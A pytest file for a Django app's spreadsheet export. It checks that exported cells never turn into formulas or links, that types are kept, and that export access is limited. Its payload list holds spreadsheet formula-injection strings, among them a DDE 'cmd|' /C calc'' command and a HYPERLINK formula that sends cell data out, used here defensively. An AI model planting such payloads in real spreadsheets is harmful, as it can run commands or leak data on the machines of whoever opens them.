"""Sheets out: whatever is typed, no cell is a formula, and every text is as it was."""

import io
from datetime import date

import openpyxl
import pytest

from renda.models import Event, Membership
from renda.sheets import Column, sheet
from tests.conftest import HAND_OVER, noon

MARKS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"点这里")')
PAYLOADS = [f"{mark}{end}" for mark in MARKS for end in ENDS]
LINKS = ["http://example.org", "mailto:a@example.org", "internal:Sheet1!A1", "external:c:\\a.xlsx"]


def opened(answer):
    content = answer if isinstance(answer, bytes) else b"".join(answer.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(answer):
    return [it for page in opened(answer) for row in page for it in row if it.value is not None]


def plain(text):
    """As Excel keeps a text: its end of a line is one character."""
    return str(text).replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n")


def rigid(found):
    """No cell is a formula or a link."""
    return [it.coordinate for it in found if it.data_type == "f" or it.hyperlink] == []


@pytest.mark.parametrize("payload", [*PAYLOADS, *LINKS, "00123", "1e10", "13900000001", "TRUE"])
def test_a_text_stays_a_text_and_the_same(payload):
    columns = [Column("=列", 10, str)]
    found = cells(sheet("=表", date(2026, 4, 2), columns, [payload], 1))
    assert rigid(found)
    assert [it.data_type for it in found] == ["s", "s"]
    assert plain(found[1].value) == plain(payload)


def test_days_are_days_and_numbers_numbers():
    columns = [Column("日", 10, lambda it: it[0]), Column("数", 10, lambda it: it[1])]
    day, moment = (date(2026, 4, 2), 3), (noon(HAND_OVER), 2.5)
    first, second = list(opened(sheet("表", day[0], columns, [day, moment], 2)).active)[1:]
    assert (first[0].is_date, first[0].value.date(), first[1].value) == (True, day[0], 3)
    assert (second[0].is_date, second[0].value.hour, second[1].value) == (True, 12, 2.5)


def test_a_sheet_that_was_cut_says_so():
    columns = [Column("名", 10, str)]
    assert (
        "共9行，只导出前1行" in cells(sheet("表", date(2026, 4, 2), columns, ["甲"], 9))[-1].value
    )


def test_the_office_takes_along_what_it_has_narrowed_down_and_no_more(county, act):
    answer = act.see(county.guan, "/admin/renda/body/export/?q=水利", HAND_OVER)
    names = [row[0].value for row in opened(answer).active]
    assert names == ["名称", "县水利局"]
    answer = act.see(county.guan, "/admin/renda/user/export/", HAND_OVER)
    assert county.yuan.name not in [row[0].value for row in opened(answer).active]
    answer = act.see(county.guan, "/admin/renda/membership/export/", HAND_OVER)
    here = Membership.objects.filter(body__congress=county.congress).count()
    assert opened(answer).active.max_row == here + 1


def test_a_sheet_is_only_for_whom_its_page_is(county, act):
    for person, page in (
        (county.gao, "/overview/"),
        (county.wu, "/record/"),
        (county.wu, "/posts/"),
    ):
        assert act.see(person, f"{page}?sheet={page.strip('/')}", HAND_OVER).status_code == 403


def test_what_a_page_shows_in_parts_its_sheet_holds_whole(county, act):
    for place in range(60):
        Event.objects.create(
            congress=county.congress, subject=county.water, name="change", label=f"变更{place}",
            actor=county.guan, at=noon(HAND_OVER), on=HAND_OVER, facts={"row": "县水利局"},
        )  # fmt: skip
    answer = act.see(county.guan, "/record/?sheet=record", HAND_OVER)
    labels = [row[1].value for row in opened(answer).active]
    assert {f"变更{place}" for place in range(60)} <= set(labels)
